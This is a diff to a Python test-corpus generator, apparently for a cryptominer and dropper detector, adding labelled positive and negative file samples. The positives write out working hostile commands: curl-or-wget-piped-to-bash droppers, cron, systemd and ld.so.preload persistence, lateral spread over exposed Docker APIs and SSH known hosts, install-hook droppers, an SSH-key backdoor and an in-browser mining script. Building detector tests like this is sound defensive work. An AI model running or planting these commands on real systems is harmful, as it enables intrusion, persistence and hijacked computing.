@@ -211,6 +211,49 @@ def hidden() -> Iterator[Tuple[str, bytes]]:
     yield "nested.tgz", inner.getvalue()
 
 
+# --- what brings miners, whatever they are called --------------------------------------------------
+
+
+def droppers() -> Iterator[Tuple[str, str, str]]:
+    """Path, text, and the lowest level that will do.  Addresses are those of documentation."""
+    at = "http://203.0.113.7"
+    both = f"(curl -fsSL {at}/i.sh || wget -qO- {at}/i.sh) | bash >/dev/null 2>&1 &"
+    yield "cron.d/x", f"*/9 * * * * root {both}\n", "error"
+    yield "zz.pth", f"import os; os.system('{both}')\n", "error"
+    yield ".bashrc", f"alias ll='ls -l'\n{both}\n", "error"
+    yield "net.service", (f"[Service]\nExecStartPre=/bin/sh -c 'curl {at}/n -o /dev/shm/.n; chmod +x "
+                          "/dev/shm/.n'\nExecStart=/dev/shm/.n\n"), "error"
+    yield "Dockerfile", (f"FROM alpine\nRUN curl -s {at}/a -o /usr/bin/.a && chmod +x /usr/bin/.a && "
+                         "echo '* * * * * /usr/bin/.a' | crontab -\n"), "error"
+    yield "rivals.sh", ("#!/bin/sh\nfor p in xmrig kinsing sysrv; do pkill -9 -f $p; done\n"
+                        "curl -sL https://files.example/n -o /usr/bin/netd && chmod +x /usr/bin/netd\n"
+                        "/usr/bin/netd >/dev/null 2>&1 &\n"), "error"
+    yield "docker.sh", ("zgrab --port 2375 -f t > o\nfor h in $(cat o); do\ndocker -H tcp://$h:2375 run -d "
+                        f"-v /:/mnt alpine chroot /mnt sh -c 'wget -qO- {at}/c | sh'\ndone\n"), "error"
+    yield "ssh.sh", ("for h in $(cut -d' ' -f1 ~/.ssh/known_hosts); do\nssh -oStrictHostKeyChecking=no "
+                     f"root@$h 'curl {at}/s | bash'\ndone\n"), "error"
+    yield "preload.sh", (f"wget -q {at}/l.c && gcc -shared -fPIC -o /usr/lib/l.so l.c\necho /usr/lib/l.so "
+                         ">> /etc/ld.so.preload\nnohup /usr/sbin/.d &\n"), "error"
+    yield "page.html", ("<script>s=new WebSocket('wss://cdn.example/');w=[];for(i=0;i<navigator."
+                        "hardwareConcurrency;i++){w.push(new Worker(URL.createObjectURL(b)));w[i].onmessage"
+                        "=e=>s.send(JSON.stringify({type:'submit',job_id:e.data.job_id,nonce:e.data.nonce}))}"
+                        "s.onmessage=m=>{j=JSON.parse(m.data);if(j.type=='job')w.forEach(x=>x.postMessage("
+                        "{job_id:j.job_id,blob:j.blob,target:j.target}))}</script>\n"), "error"
+    yield "address.sh", f"#!/bin/sh\ncurl {at}/a.sh | sh\n", "warning"
+    yield "cloud-init.yaml", f"#cloud-config\nruncmd:\n- curl -fsSL {at}/i.sh | bash\n", "warning"
+    piped = "curl -s https://files.example/x.sh | sh"
+    yield "extconf.rb", f"require 'mkmf'\nsystem('{piped}')\ncreate_makefile('x')\n", "warning"
+    yield "package.json", json.dumps({"scripts": {"postinstall": piped}}), "warning"
+    yield "postinst", f"#!/bin/sh\nif [ \"$1\" = configure ]; then\n  {piped}\nfi\n", "warning"
+    yield "tool.spec", f"Name: tool\n%post\n{piped}\n", "warning"
+    yield "build.rs", ("fn main() {\n    std::process::Command::new(\"sh\").arg(\"-c\")"
+                       f".arg(\"{piped}\").status().unwrap();\n}}\n"), "warning"
+    yield "setup.py", ("from setuptools.command.install import install\nclass I(install):\n    def run(self):"
+                       f"\n        os.system('{piped}')\nsetup(cmdclass={{'install': I}})\n"), "warning"
+    yield "key.json/package.json", json.dumps({"scripts": {
+        "preinstall": "echo ssh-rsa AAAA a@b >> ~/.ssh/authorized_keys"}}), "warning"
+
+
 # --- what is harmless ------------------------------------------------------------------------------
 
 
@@ -252,6 +295,33 @@ def harmless() -> Iterator[Tuple[str, str]]:
                        "  0x800000000000808a, 0x8000000080008000};\nvoid keccak(void);\n")
     yield "install.sh", ("#!/bin/sh\nset -e\ncurl -fsSL https://get.tool.example/install.sh | sh\n"
                          "chmod +x /usr/local/bin/tool\nnohup tool serve &\n")
+    yield "usage.py", ("\"\"\"Asks a pool.\n\nUsage:\n    ask.py -o gate.example:3333 -u WALLET -p x\n\"\"\"\n"
+                       "import argparse\np = argparse.ArgumentParser(epilog='example: ask.py -o "
+                       "gate.example:3333 -u w -p x')\np.add_argument('-o', help='pool, e.g. -o "
+                       "gate.example:3333 -u w -p x')\np.parse_args()\n")
+    yield "usage.sh", ("#!/bin/sh\nusage() {\n  echo \"Example: $0 -o gate.example:3333 -u w -p x\" >&2\n}\n"
+                       "usage\n")
+    yield "detect.spec.ts", ("describe('miners', () => {\n  const lines = ['nohup " + command + " > /dev/null "
+                             "2>&1 &'];\n  it.each(lines)('%s', (l) => {\n    expect(detect(l)).toBe(true);"
+                             "\n  });\n});\n")
+    yield "cowrie.json", json.dumps({"eventid": "cowrie.command.input", "src_ip": "203.0.113.9",
+                                     "input": f"curl http://203.0.113.9/x | sh; {command}"})
+    yield "event.json", json.dumps({"@timestamp": "2026-01-01", "process": {
+        "pid": 7, "command_line": f"./sync -o gate.example:3333 -u {WALLET} -p x"}}, indent=1)
+    yield "clean.sh", ("#!/bin/bash\npkill -9 xmrig; pkill -9 -f kinsing; killall -9 sysrv\nchattr -i "
+                       "/etc/ld.so.preload\nsed -i '/libprocesshider/d' /etc/ld.so.preload\ncrontab -l | "
+                       "grep -v curl | crontab -\nrm -rf /tmp/.x /tmp/kinsing\nfind / -name 'kinsing*' "
+                       "-delete >/dev/null 2>&1 &\n")
+    yield "desktop.sh", "#!/bin/sh\nxfer -o host.example:3389 -u admin -p x\nsq -o db.example:5432 -u me -p x\n"
+    yield "pools.json", json.dumps({"coinbase_tags": {"/F2Pool/": {
+        "name": "F2Pool", "link": "https://www.f2pool.com"}}})
+    yield "deny.json", json.dumps({"rules": [{"action": "deny", "fqdn": "pool.supportxmr.com"}]})
+    yield "en.json", json.dumps({"poolHint": "For example stratum+tcp://gate.example:3333"})
+    yield "stream.sh", "#!/bin/sh\nmodprobe msr\nwrmsr -a 0x1a4 0xf\nnumactl --membind=0 ./stream\n"
+    yield "blocker.js", ("chrome.webRequest.onBeforeRequest.addListener(() => ({cancel: true}), {urls: ["
+                         "'*://coinhive.com/*']}, ['blocking']);\n")
+    yield "iocs.csv", f"type,value,comment\ndomain,gate.example,C2\ncommand,{command} --user {WALLET},seen\n"
+    yield "lab.sh", "#!/bin/sh\ncurl http://10.1.1.1/a.sh | sh\ncurl http://172.17.0.1/b.sh | bash\n"
     yield "values.yaml", "hugepages:\n  enabled: true\nsysctl:\n  vm.nr_hugepages: 1280\n"
 
 
@@ -266,6 +336,8 @@ def corpus() -> List[Sample]:
         samples.append(Sample(f"configurations/{path}", text.encode(), "error", "positive"))
     for path, content in hidden():
         samples.append(Sample(f"hidden/{path}", content, "error", "positive"))
+    for path, text, least in droppers():
+        samples.append(Sample(f"droppers/{path}", text.encode(), least, "positive"))
     for path, text in harmless():
         samples.append(Sample(f"harmless/{path}", text.encode(), "note", "negative"))
     return samples
